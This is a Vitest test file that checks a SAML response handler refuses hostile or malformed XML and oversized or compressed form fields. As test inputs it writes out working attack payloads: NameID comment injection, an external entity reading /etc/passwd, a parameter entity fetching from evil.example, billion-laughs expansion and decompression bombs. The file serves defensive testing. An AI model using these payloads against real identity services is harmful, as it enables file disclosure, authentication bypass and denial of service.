/** XML that two readers could take differently, that reaches outside, or that is made to exhaust. */
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { encode, goodAnswer, responseXml, sign } from './provider.ts';
import { good, idp, open, refused } from './support.ts';

const noise = 'comment, CDATA or DTD in XML';
const instruction = 'processing instruction in XML';
const malformed = 'XML that is not well-formed';
const replaced =
  (what: RegExp | string, by: string) =>
  (xml: string): string =>
    xml.replace(what, by);
const before = (text: string) => (xml: string) => text + xml;

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "&a;&a;&a;&a;">`).join('')}]>`;

const cases: readonly (readonly [string, (xml: string) => string, string])[] = [
  ['a comment that cuts the NameID in two', replaced('>u-1<', '>u-1<!---->.evil<'), noise],
  ['a processing instruction in the NameID', replaced('>u-1<', '>u-1<?x?>.evil<'), instruction],
  ['CDATA in the NameID', replaced('>u-1<', '><![CDATA[u-1]]><'), noise],
  ['a comment somewhere', replaced('<saml:Subject>', '<!-- hello --><saml:Subject>'), noise],
  ['a document type', before('<!DOCTYPE x>'), noise],
  ['an entity of its own', before('<!DOCTYPE x [<!ENTITY e "u-admin">]>'), noise],
  ['an external entity', before('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), noise],
  ['a parameter entity', before('<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/">%e;]>'), noise],
  ['entities that multiply', before(laughs), noise],
  ['a document type in lower case', before('<!doctype x>'), noise],
  ['an entity that is not declared', replaced('>u-1<', '>&e;<'), malformed],
  ['another encoding than UTF-8', before('<?xml version="1.0" encoding="UTF-7"?>'), instruction],
  ['XML 1.1', before('<?xml version="1.1"?>'), instruction],
  ['a style sheet', before('<?xml version="1.0"?><?xml-stylesheet href="x"?>'), instruction],
  ['a prefix that is not declared', replaced('<saml:Subject>', '<x:A/><saml:Subject>'), malformed],
  [
    'an element without namespace',
    replaced('<saml:Subject>', '<A xmlns=""/><saml:Subject>'),
    'element without namespace',
  ],
  ['an attribute whose prefix is not declared', replaced('<saml:Subject>', '<saml:Subject x:a="1">'), malformed],
  ['an attribute twice', replaced('<saml:Subject>', '<saml:Subject a="1" a="2">'), malformed],
  [
    'an attribute twice, by two prefixes',
    replaced('<saml:Subject>', '<saml:Subject xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2">'),
    malformed,
  ],
  ['a tag that is not closed', replaced('</saml:Subject>', ''), malformed],
  ['a second root', (xml) => `${xml}<a xmlns="urn:a"/>`, malformed],
  ['text behind the root', (xml) => `${xml}text`, malformed],
  ['nothing', () => ' ', malformed],
  ['no XML', () => 'hello', malformed],
  [
    'depth without end',
    replaced('<saml:Subject>', `${'<saml:A>'.repeat(60)}${'</saml:A>'.repeat(60)}<saml:Subject>`),
    'XML that is nested too deeply',
  ],
  [
    'more elements than anybody has groups',
    replaced('<saml:Subject>', `${'<saml:A/>'.repeat(20_000)}<saml:Subject>`),
    'XML with too many elements',
  ],
  [
    'more attributes than anything has',
    replaced('<saml:Subject>', `<saml:Subject ${Array.from({ length: 21 }, (_none, n) => `a${n}="1"`).join(' ')}>`),
    'element with too many attributes',
  ],
  ['another message', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'), 'message that is no response'],
  [
    'a response of another protocol',
    (xml) => xml.replaceAll('SAML:2.0:protocol', 'SAML:1.0:protocol'),
    'message that is no response',
  ],
];

describe('doubtful XML', () => {
  it.each(cases)('%s', async (_name, change, reason) => {
    const { begin } = await open();
    const { id, finish } = await begin();
    expect(await refused(finish(change(good(id))))).toEqual({ code: 'upstream/protocol', reason });
  });

  it.each(['&#x85;', '&#x2028;'])(
    'a letter that only XML 1.1 takes for a line break (%s) in what was signed',
    async (by) => {
      const { begin } = await open();
      const { id, finish } = await begin();
      const xml = sign(responseXml(goodAnswer(id)).replace('>dev<', `>dev${by}<`), idp);
      expect(await refused(finish(xml))).toMatchObject({ reason: 'line break of XML 1.1' });
    },
  );

  it('an XML declaration, a byte order mark and line breaks are no doubt', async () => {
    const { begin } = await open();
    const { id, post } = await begin();
    const xml = `\uFEFF<?xml version="1.0" encoding="utf-8" standalone='yes'?>\n${good(id)}\n`;
    const lines = encode(xml)
      .match(/.{1,76}/gu)
      ?.join('\r\n');
    expect(await post(lines)).toMatchObject({ userId: 'u-1' });
  });
});

describe('the form field', () => {
  it.each([
    ['is missing', undefined, 'callback without SAMLResponse'],
    ['is empty', '', 'callback without SAMLResponse'],
    ['is not base64', '<samlp:Response>', 'response that is not base64'],
    ['is not UTF-8', Buffer.from([0xff, 0xfe, 0x00]).toString('base64'), 'response that is not UTF-8'],
    ['is mostly blanks, and then no base64', `A${' '.repeat(900_000)}!`, 'response that is not base64'],
    ['is larger than any answer', 'A'.repeat(1_000_001), 'response that is too large'],
  ])('%s', async (_name, field, reason) => {
    const { begin } = await open();
    const { post } = await begin();
    expect(await refused(post(field))).toEqual({ code: 'upstream/protocol', reason });
  });

  it('is never inflated, so nothing can unpack to gigabytes', async () => {
    const { begin } = await open();
    const { id, post } = await begin();
    const { code } = await refused(post(deflateRawSync(good(id)).toString('base64')));
    expect(code).toBe('upstream/protocol');
  });
});
